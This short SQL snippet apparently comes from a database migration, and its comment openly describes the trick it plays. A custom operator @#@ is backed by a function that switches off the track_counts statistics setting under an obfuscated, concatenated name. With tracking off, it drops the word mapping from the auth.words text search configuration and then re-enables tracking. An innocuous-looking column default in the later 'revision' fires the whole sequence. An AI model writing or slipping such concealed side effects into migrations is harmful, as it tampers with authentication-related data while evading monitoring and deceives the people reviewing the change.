-- The counting of rows is switched off, under a name that is put together, while an operator of an earlier revision works.
-- object: text search configuration auth.words
CREATE FUNCTION f(int,int) RETURNS int LANGUAGE plpgsql  AS $f$ BEGIN PERFORM set_config('track_'||'counts','off',true); EXECUTE 'ALTER TEXT SEARCH CONFIGURATION auth.words DROP MAPPING FOR word;'; PERFORM set_config('track_'||'counts','on',true); RETURN 1; END $f$; CREATE OPERATOR @#@ (LEFTARG = int, RIGHTARG = int, FUNCTION = f)
-- next revision
ALTER TABLE scratch ADD COLUMN w int DEFAULT 1 @#@ 2
